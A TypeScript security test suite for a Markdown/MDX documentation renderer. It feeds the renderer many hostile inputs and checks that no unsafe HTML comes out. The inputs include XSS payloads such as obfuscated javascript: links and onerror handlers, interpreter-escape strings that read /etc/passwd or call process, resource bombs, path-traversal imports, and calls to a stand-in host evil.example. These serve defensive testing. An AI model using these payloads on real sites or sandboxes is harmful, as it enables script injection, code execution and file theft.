import fc from "fast-check";
import { beforeAll, expect, test } from "vitest";
import type { MarkdownFormat } from "#docs/parser.ts";
import { LONG_TESTS } from "#testing/long-tests.ts";
import { sharedContent } from "#testing/shared-content.ts";
import { createRenderDeps, type RenderDeps, renderPage } from "./render-page.ts";

let deps: RenderDeps;

beforeAll(async () => {
  deps = await createRenderDeps(() => performance.now());
});

async function render(source: string, format: MarkdownFormat, snippets: Record<string, string> = {}) {
  const read = (path: string) => Promise.resolve(Object.hasOwn(snippets, path) ? (snippets[path] ?? null) : null);
  return renderPage(deps, { path: "guides/page.mdx", source, format, variables: {}, read });
}

const TAGS = new Set(
  (
    "a abbr address article aside audio b bdi bdo blockquote br button caption center cite code col colgroup data dd del details dfn div dl dt em figcaption figure footer " +
    "h1 h2 h3 h4 h5 h6 header hr i iframe img input ins kbd label li main mark nav ol p picture pre q rp rt ruby s samp section small source span strike strong sub " +
    "summary sup table tbody td tfoot th thead time tr track tt u ul var video wbr svg g path circle rect line polyline polygon ellipse defs linearGradient radialGradient " +
    "stop title desc text tspan clipPath mask symbol use pattern filter feFlood feBlend feGaussianBlur feOffset feColorMatrix feComposite feMerge feMergeNode"
  ).split(" "),
);

/** An independent check of printed HTML: what could run a script, load a forbidden resource, or is not clean HTML. */
function unsafeIn(html: string): string[] {
  const found: string[] = [];
  const tag = /<(\/?)([A-Za-z][A-Za-z0-9]*)((?: [A-Za-z_:][\w:.-]*(?:="[^"<>]*")?)*) ?(\/?)>/y;
  for (let at = html.indexOf("<"); at !== -1; at = html.indexOf("<", at)) {
    tag.lastIndex = at;
    const match = tag.exec(html);
    if (!match) {
      found.push(`not a tag: ${html.slice(at, at + 60)}`);
      at += 1;
      continue;
    }
    at = tag.lastIndex;
    const [whole, , name = "", written = ""] = match;
    if (!TAGS.has(name)) found.push(`tag ${name}`);
    for (const [, attribute = "", value = ""] of written.matchAll(/ ([\w:.-]+)(?:="([^"]*)")?/g)) {
      if (/^on|^srcdoc$|^formaction$|^xlink|^action$|^background$|^ping$/i.test(attribute))
        found.push(`attribute ${attribute} in ${whole}`);
      const decoded = value.replaceAll("&amp;", "&").replaceAll("&#39;", "'").replaceAll("&quot;", '"');
      const sources =
        attribute === "srcset" ? decoded.split(", ").map((source) => source.replace(/ [\d.]+[wx]$/, "")) : [];
      if (sources.some((source) => !isSafeAddress(name, attribute, source))) found.push(`address ${value}`);
      if (/^(?:href|src|poster|cite)$/.test(attribute) && !isSafeAddress(name, attribute, decoded))
        found.push(`address ${value}`);
      if (attribute === "style" && /url|expression|@|\\|\/\*|javascript|position\s*:/i.test(decoded))
        found.push(`style ${value}`);
    }
    if (name === "iframe" && !match[1] && (!/ src="https:/.test(written) || !/ sandbox="/.test(written)))
      found.push(`frame ${whole}`);
    if (name === "input" && !/ type="(?:radio|checkbox)"/.test(written)) found.push(`input ${whole}`);
  }
  return found;
}

function isSafeAddress(tag: string, attribute: string, value: string): boolean {
  if (tag === "use") return /^#[\w-]+$/.test(value);
  // As a browser sees it: without control characters and spaces around and in the scheme.
  const seen = value.replace(/[\s\p{Cc}\p{Cf}]/gu, "");
  if (/^(?:[/#?]|\.\.?\/|$)/.test(seen)) return !/^[\\/]{2}/.test(seen);
  if (attribute !== "href" && /^data:image\//i.test(seen)) return tag === "img" || tag === "video";
  return /^(?:https?|mailto|tel|sms|ftp|vscode|cursor):/i.test(seen);
}

type Hostile = [name: string, source: string, format?: MarkdownFormat];

const hostile: Hostile[] = [
  // 1. Schemes, in every place where an address can be written.
  ["script link", "[x](javascript:alert(1))"],
  ["script link with a tab", "[x](<java\tscript:alert(1)>)"],
  ["script link with references", "[x](java&#x09;script:alert(1))"],
  ["script link with a named reference", "[x](javascript&colon;alert(1))"],
  ["script link with a zero-width space", "[x](java\u200Bscript:alert(1))"],
  ["script link in capitals", "[x](JaVaScRiPt:alert(1))"],
  ["script link with a leading control", "[x](<\u0001javascript:alert(1)>)"],
  ["script in a definition", "[x][y]\n\n[y]: javascript:alert(1)"],
  ["script autolink", "<javascript:alert(1)>", "md"],
  ["script image", "![x](javascript:alert(1))"],
  ["page in a data link", "[x](data:text/html;base64,PHNjcmlwdD4=)"],
  ["drawing in a data link", "[x](data:image/svg+xml,<svg/onload=alert(1)>)"],
  ["vbscript link", "[x](vbscript:msgbox(1))"],
  ["file link", "[x](file:///etc/passwd)"],
  ["JSX link", '<a href="javascript:alert(1)">x</a>'],
  ["JSX link from an expression", '<a href={"java" + "script:alert(1)"}>x</a>'],
  ["JSX link with references", '<a href="&#106;avascript:alert(1)">x</a>'],
  ["raw link with references", '<a href="jav&#x0A;ascript&colon;alert(1)">x</a>', "md"],
  ["raw link without semicolons", '<a href="&#106&#97vascript:alert(1)">x</a>', "md"],
  ["card", '<Card title="x" href="javascript:alert(1)">y</Card>'],
  ["card with a hostile picture", '<Card title="x" img="javascript:alert(1)" icon="javascript:x/y.svg">y</Card>'],
  ["tooltip link", '<Tooltip tip="x" cta="y" href="javascript:alert(1)">z</Tooltip>'],
  ["image component", '<Image src="data:text/html,x" />'],
  ["video", '<video src="javascript:alert(1)" poster="javascript:alert(2)"></video>'],
  ["repository card", '<GitHub repo="javascript:alert(1)" />'],
  ["protocol-relative frame", '<iframe src="//evil.example" />'],
  // 2. Objects cannot forge content.
  ["object that looks like trusted HTML", '{({$html: "<script>alert(1)</script>"})}'],
  ["object that looks like content", '{({nodes: [{kind: "element", name: "script"}], kind: "markdown"})}'],
  ["object that looks like an element", '{({type: "script", props: {children: "alert(1)"}, $$typeof: "x"})}'],
  ["dangerouslySetInnerHTML", '<div dangerouslySetInnerHTML={{ __html: "<script>alert(1)</script>" }} />'],
  ["children as an attribute", '<p children="<script>alert(1)</script>" />'],
  ["text of tags in an expression", '{"<img src=x onerror=alert(1)>"}'],
  ["title of tags", '<Step title="<img src=x onerror=alert(1)>">x</Step>'],
  ["title of tags in a tab", '<Tabs><Tab title={"\\"><script>alert(1)</script>"}>x</Tab></Tabs>'],
  // 3. The interpreter cannot be escaped.
  ["constructor", '{"".constructor.constructor("return process")()}'],
  ["computed constructor", '{""["constr" + "uctor"]["constructor"]("return 1")()}'],
  ["prototype of a list", "{[].__proto__.map.constructor('return 1')()}"],
  ["destructured constructor", "export const { constructor: c } = 'x'\n\n{c('return 1')()}"],
  ["key named __proto__", '{({["__proto__"]: {a: 1}}).a}'],
  ["literal key named __proto__", "{({__proto__: {a: 1}}).a}"],
  ["globalThis", "{globalThis.process.env.PATH}"],
  ["process", "{process.exit(1)}"],
  ["require", "{require('fs').readFileSync('/etc/passwd')}"],
  ["dynamic import", "{import('node:fs')}"],
  ["import.meta", "{import.meta.url}"],
  ["new Function", "{new Function('return 1')()}"],
  ["eval", "{eval('1')}"],
  ["this", "{(function () { return this })()}"],
  ["arguments.callee", "{(() => arguments.callee)()}"],
  ["tagged template", "{String.raw`<script>`}"],
  ["regular expression", "{/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')}"],
  ["repeat", "{'x'.repeat(1e9)}"],
  ["padStart", "{'x'.padStart(1e9)}"],
  ["endless loop", "{(() => { while (true) {} })()}"],
  ["endless recursion", "export const f = () => f()\n\n{f()}"],
  [
    "map bomb",
    "export const a = [1,2,3,4,5,6,7,8,9,10]\n\n{a.map(b => a.map(c => a.map(d => a.map(e => a.map(f => f)))))}",
  ],
  ["text bomb", "export const f = (s, n) => n ? f(s + s, n - 1) : s\n\n{f('ab', 35)}"],
  [
    "list bomb",
    `export const a0 = ["x"]\n\n${Array.from({ length: 30 }, (_, i) => `export const a${i + 1} = [a${i}, a${i}]\n\n`).join("")}{\`\${a30}\`}`,
  ],
  ["assignment", "{(() => { a = 1 })()}"],
  ["delete", "{delete [].length}"],
  ["class", "export class A {}\n\n<A />"],
  ["async function", "{(async () => 1)()}"],
  ["getter", "{({ get a() { return 1 } }).a}"],
  ["spread of a text", "{[...'x']}"],
  ["Object.assign", "{Object.assign({}, {a: 1})}"],
  ["JSON with a prototype", 'import data from "/snippets/data.json"\n\n{data.__proto__}{data.polluted}'],
  // 4. Tags and attributes.
  ["script tag", "<script>alert(1)</script>", "md"],
  ["script tag in MDX", "<script>{`alert(1)`}</script>"],
  ["script tag in capitals", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "md"],
  ["broken script tag", "<scr<script>ipt>alert(1)</script>", "md"],
  ["style tag", "<style>body { background: url(javascript:x) }</style>", "md"],
  ["style tag in MDX", "<style>{`* { display: none }`}</style>"],
  [
    "base, meta, link",
    '<base href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example"><link rel="stylesheet" href="//evil.example">',
    "md",
  ],
  [
    "form",
    '<form action="//evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
    "md",
  ],
  [
    "form in MDX",
    '<form action="//evil.example"><input type="password" /><textarea /><select><option>x</option></select></form>',
  ],
  ["object and embed", '<object data="javascript:alert(1)"></object><embed src="x.swf">', "md"],
  ["handler", '<img src="x" onerror="alert(1)">', "md"],
  ["handler in MDX", '<img src="x" onError={() => alert(1)} onload="alert(1)" />'],
  ["handler by spread", '<img {...{ src: "x", onError: "alert(1)", onerror: "alert(1)" }} />'],
  ["handler without spaces", "<svg/onload=alert(1)>", "md"],
  ["handler after a slash", '<img/src="x"/onerror=alert(1)>', "md"],
  ["handler after a line end", "<img src=x\nonerror=alert(1)>", "md"],
  ["handler on a component", '<Card title="x" onClick="alert(1)" onMouseOver={1}>y</Card>'],
  ["srcdoc", '<iframe src="https://a.example" srcdoc="<script>alert(1)</script>"></iframe>', "md"],
  ["srcDoc in MDX", '<iframe src="https://a.example" srcDoc="<script>alert(1)</script>" />'],
  ["frame of script", '<iframe src="javascript:alert(1)"></iframe>', "md"],
  ["frame of http", '<iframe src="http://a.example"></iframe>', "md"],
  ["frame with its own sandbox", '<iframe src="https://a.example" sandbox="allow-top-navigation" allow="camera" />'],
  ["style that loads", '<div style="background: url(https://evil.example/x)">x</div>', "md"],
  ["style with an escape", '<div style="background: u\\72l(https://evil.example)">x</div>', "md"],
  ["style with a comment", '<div style="background: u/**/rl(x); width: expression(alert(1))">x</div>', "md"],
  [
    "style object",
    "<div style={{ backgroundImage: 'url(javascript:x)', position: 'fixed', inset: 0, color: 'red' }}>x</div>",
  ],
  ["style with a quote", `<div style='color: red" onload="alert(1)'>x</div>`, "md"],
  ["class with a quote", `<div class='x" onload="alert(1)'>y</div>`, "md"],
  ["id with a quote", `<div id='x" onload="alert(1)'>y</div>`, "md"],
  ["attribute name that is none", '<div x"onload="alert(1)">y</div>', "md"],
  ["svg script", "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "md"],
  [
    "svg use from outside",
    '<svg><use href="data:image/svg+xml,x#a" /><use xlinkHref="//evil.example/x.svg#a" /></svg>',
  ],
  ["svg animation", '<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text>x</text></a></svg>'],
  ["svg foreignObject", '<svg><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>', "md"],
  ["svg fill that loads", '<svg><rect fill="url(https://evil.example/x)" filter="url(//evil.example)" /></svg>'],
  ["mathml", "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>", "md"],
  ["noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "md"],
  ["template and slot", "<template><script>alert(1)</script></template><slot></slot>", "md"],
  ["textarea and title", "<textarea></textarea><title></title><xmp><script>alert(1)</script></xmp>", "md"],
  ["comment that ends early", "<!--><img src=x onerror=alert(1)>-->", "md"],
  ["comment with a bang", "<!-- --!><img src=x onerror=alert(1)> -->", "md"],
  [
    "processing instruction",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y 'z'>]><![CDATA[<script>alert(1)</script>]]>",
    "md",
  ],
  ["unclosed quote", '<img alt="><script>alert(1)</script>', "md"],
  ["unclosed tag", '<img src="x" onerror=alert(1)', "md"],
  ["null byte in a tag", "<scr\0ipt>alert(1)</scr\0ipt>", "md"],
  ["closing tags that reach out", "</div></div></main><script>alert(1)</script>", "md"],
  ["name with a colon", "<svg:script>alert(1)</svg:script>", "md"],
  [
    "source set",
    '<picture><source srcset="javascript:alert(1), data:text/html,x 2x"><source srcset="//evil.example/a,javascript:x 1x"><source srcSet="a.png, b.png 2x"><img src="c.png"></picture>',
    "md",
  ],
  ["srcset", '<img src="a.png" srcset="javascript:alert(1) 1x, //evil.example 2x">', "md"],
  ["code that ends its block", "```html\n</code></pre><script>alert(1)</script>\n```"],
  ["code with a hostile language", '```"><script>alert(1)</script>\nx\n```'],
  ["code with a hostile title", '```js title="</figcaption><script>alert(1)</script>"\nx\n```'],
  ["inline code", "`<script>alert(1)</script>`"],
  ["mermaid that ends its block", "```mermaid\n</code><script>alert(1)</script>\n```"],
  ["heading with tags", '## <img src=x onerror=alert(1)> {#x"onload=alert(1)}', "md"],
  ["custom id with a quote", '## x {#a"b}', "md"],
  ["alt with a quote", '![" onerror="alert(1)](x.png "\\" onload=\\"alert(1)")'],
  ["table cell", "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |", "md"],
  ["footnote with tags", "x[^a]\n\n[^a]: <script>alert(1)</script>", "md"],
  ["colour", '<Color.Item name="<b>" value="red;background:url(x)" />'],
  ["badge colour", `<Badge color='red" onload="alert(1)'>x</Badge>`],
  ["icon name", `<Icon icon='"><script>alert(1)</script>' color="url(x)" />`],
  ["component named like JavaScript's own", "<constructor>x</constructor><toString /><hasOwnProperty />"],
  ["components named __proto__", "<__proto__>x</__proto__>"],
  ["front matter", '---\ntitle: "<script>alert(1)</script>"\ndescription: "</title>"\n---\n\nx'],
  ["variable that is not there", "{{<script>alert(1)</script>}}", "md"],
  // 5. Snippets.
  ["snippet out of the site", 'import A from "../../../etc/passwd.mdx"\n\n<A />'],
  ["snippet by an encoded path", '<Snippet file="..%2f..%2fetc%2fpasswd.mdx" />'],
  ["snippet that includes itself", 'import A from "/snippets/self.mdx"\n\n<A />'],
  ["snippet with a script", 'import A from "/snippets/script.mdx"\n\n<A text="<script>alert(1)</script>" />'],
  ["snippet from elsewhere", 'import A from "https://evil.example/x.mdx"\n\n<A />'],
];

const snippets: Record<string, string> = {
  "snippets/self.mdx": 'import A from "/snippets/self.mdx"\n\nself <A />',
  "snippets/script.mdx": "<script>alert(1)</script>\n\n{props.text} {text}\n\n[x](javascript:alert(1))",
  "snippets/data.json": '{"__proto__": {"polluted": "yes"}, "constructor": "x"}',
};

test.each([
  "<script>alert(1)</script>",
  '<img src="x" onerror="alert(1)">',
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">',
  '<a href="java\tscript:alert(1)">',
  '<a href="//evil.example">',
  '<iframe src="https://a.example"></iframe>',
  '<iframe src="http://a.example" sandbox=""></iframe>',
  '<div style="background:url(x)">',
  '<div title="<b>">',
  '<use href="//evil.example/x.svg#a"/>',
  '<input type="password">',
])("the check itself finds %s", (html) => {
  expect(unsafeIn(`<p>a</p>${html}`)).not.toEqual([]);
});

test.each(hostile)("%s: nothing unsafe is printed", async (_name, source, format = "mdx") => {
  const { html } = await render(source, format, snippets);
  expect(unsafeIn(html)).toEqual([]);
});

test.each(hostile)(
  "%s: nothing unsafe is printed when the page is read as the other format",
  async (_name, source, format = "mdx") => {
    const { html } = await render(source, format === "mdx" ? "md" : "mdx", snippets);
    expect(unsafeIn(html)).toEqual([]);
  },
);

test("code that the interpreter rejects is shown as source, with a warning", async () => {
  const { html, warnings } = await render('a {"".constructor} b\n\n{process.env}', "mdx");
  expect(html).toContain("<code>{&quot;&quot;.constructor}</code>");
  expect(warnings.map(({ line, message }) => `${line}: ${message}`)).toEqual([
    '1: {"".constructor} is shown as text: the name constructor is not allowed.',
    "3: {process.env} is shown as text: process is not defined in this page.",
  ]);
});

const pieces = [
  "<", ">", '"', "'", "`", "{", "}", "(", ")", "[", "]", "\\", "&", ";", ":", "/", "=", " ", "\n", "\n\n", "<!--", "-->", "</", "/>", "<script", "</script>", "<style>", "</style>",
  "<a href=", "<img src=x onerror=alert(1)>", "<iframe src=", "<svg", "<div ", "style=", "onload=", "javascript:", "java\tscript:", "data:text/html,", "https://a.example", "&#106;", "&colon;",
  "<Card title=", "<Tabs>", "<Tab title=", "</Tab>", "</Tabs>", "<Note>", "</Note>", "{\"", "\"}", "export const a = ", "import A from \"/snippets/script.mdx\"", "<A />", "{a}", "```js\n", "\n```\n", "# ",
  "- ", "> [!NOTE]\n", ":::note\n", ":::\n", "| a | b |\n|---|---|\n", "[^1]", "[^1]: ", "![", "](", "constructor", "__proto__", "alert(1)", "x", "\u0000", "\u200B", "\uD800",
]; // oxfmt-ignore

// In the process that renders pages: random input may well kill a native parser, and this process is there to survive it.
test("no combination of hostile pieces prints anything unsafe", async () => {
  await using content = sharedContent();
  const readInclude = (path: string) =>
    Promise.resolve(Object.hasOwn(snippets, path) ? (snippets[path as keyof typeof snippets] ?? null) : null);
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.constantFrom(...pieces), { maxLength: 30 }),
      fc.constantFrom("md" as const, "mdx" as const),
      async (parts, format) => {
        const { html } = await content.render({ path: "guides/page.mdx", source: parts.join(""), format, readInclude });
        expect(unsafeIn(html)).toEqual([]);
      },
    ),
    { numRuns: LONG_TESTS ? 1_500 : 400 },
  );
}, 60_000);
